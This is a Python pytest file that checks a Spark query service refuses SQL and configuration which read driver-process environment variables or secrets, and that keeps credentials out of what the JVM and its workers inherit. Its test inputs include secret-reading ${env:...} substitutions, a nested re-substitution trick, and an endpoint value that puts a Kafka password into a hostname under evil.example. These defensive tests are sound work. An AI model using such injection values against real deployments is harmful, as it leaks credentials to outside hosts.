"""An author of SQL reads no variable of the driver's process, and no secret that it was given."""

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from queries.domain.definitions.configuration import application_conf_problems
from queries.domain.definitions.parsing import parse_query
from queries.domain.definitions.sql_text import sql_problems
from queries.secret_references import References

REPOSITORY = Path(__file__).resolve().parents[3]
SECRET = "s3cret-of-the-brokers"


@pytest.mark.guarantee("G-SECRET-3")
@pytest.mark.parametrize(
    "text",
    ["SELECT '${env:KAFKA_PASSWORD}' FROM t", "SELECT value FROM t WHERE '${system:user.home}'=''"],
)
def test_a_text_that_reads_the_process_is_refused(text: str) -> None:
    spec: Any = parse_query(
        {
            "kind": "sql",
            "sources": [{"name": "t", "format": "rate"}],
            "sql": text,
            "sink": {"format": "noop"},
        }
    )
    (problem,) = sql_problems(spec)
    assert problem.message == "reads from the driver process, not from the query's sources."
    assert problem.value in text


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("spark.sql.x", "${env:KAFKA_PASSWORD}"),
        ("spark.hadoop.fs.s3a.endpoint", "https://${env.KAFKA_PASSWORD}.evil.example"),
        ("spark.hadoop.fs.s3a.access.key", "$${spark.hadoop.a}"),  # Hadoop replaces again and again
    ],
)
def test_configuration_that_reads_the_process_is_refused(key: str, value: str) -> None:
    assert "contains ${…}" in [one.message[:13] for one in application_conf_problems({key: value})]


def test_a_variable_is_kept_for_references_and_inherited_by_nobody(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("KAFKA_PASSWORD", SECRET)
    references = References(env_allowlist=("KAFKA_PASSWORD", "UNSET"), secrets_dir="")
    references.take_from_environment()
    assert "KAFKA_PASSWORD" not in os.environ
    assert references.resolve("env:KAFKA_PASSWORD") == SECRET
    assert SECRET not in references.mask(f"failed with {SECRET}")


STORY = """
import json, os, sys
from pyspark.sql import SparkSession
from queries.secret_references import References

references = References(env_allowlist=("KAFKA_PASSWORD",), secrets_dir="")
if sys.argv[2] == "guarded":
    references.take_from_environment()
spark = (
    SparkSession.builder.master("local[1]")
    .config("spark.ui.enabled", "false")
    .config("spark.local.dir", sys.argv[1])
    .getOrCreate()
)
hadoop = spark.sparkContext._jsc.hadoopConfiguration()
hadoop.set("a", "${env.KAFKA_PASSWORD}")
found = {
    "sql": spark.sql("SELECT '${env:KAFKA_PASSWORD}' AS s").collect()[0].s,
    "hadoop": hadoop.get("a"),
    "worker": spark.sparkContext.parallelize([1], 1).map(
        lambda _: os.environ.get("KAFKA_PASSWORD", "")
    ).collect()[0],
}
sys.stdout.write(json.dumps(found) + "\\n")
sys.stdout.flush()
spark.sparkContext._gateway.proc.kill()
os._exit(0)
"""


@pytest.mark.guarantee("G-SECRET-3")
@pytest.mark.spark
def test_what_the_jvm_inherits_holds_no_secret(tmp_path: Path, java_home: str) -> None:
    (tmp_path / "story.py").write_text(STORY)
    found = {}
    for mode in ("open", "guarded"):
        done = subprocess.run(
            [sys.executable, str(tmp_path / "story.py"), str(tmp_path), mode],
            cwd=REPOSITORY,
            env={
                **os.environ,
                "PYSPARK_PYTHON": sys.executable,
                "PYTHONPATH": str(REPOSITORY),
                "KAFKA_PASSWORD": SECRET,
            },
            capture_output=True,
            text=True,
            timeout=240,
            check=False,
        )
        assert done.returncode == 0, done.stderr[-4000:]
        found[mode] = json.loads(done.stdout.splitlines()[-1])
    assert found["open"] == dict.fromkeys(("sql", "hadoop", "worker"), SECRET)  # without the guard
    assert SECRET not in json.dumps(found["guarded"])
